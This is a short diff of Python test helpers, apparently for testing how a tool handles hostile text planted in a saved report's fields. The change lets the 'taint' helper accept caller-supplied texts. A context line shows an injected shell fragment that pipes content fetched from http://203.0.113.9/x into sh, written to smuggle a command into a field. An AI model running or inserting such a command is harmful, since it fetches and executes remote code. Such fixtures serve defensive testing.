@@ -87,9 +87,10 @@ def evidence(folder):
                       + b"' http://203.0.113.9/x | sh\n")
 
 
-def taint(report):
-    """A saved report in which everything that evidence fills holds hostile text instead."""
-    texts = strings()
+def taint(report, texts=None):
+    """A saved report in which everything that evidence fills holds hostile text instead, or
+    the texts given."""
+    texts = texts or strings()
     at = 0
 
     def following():
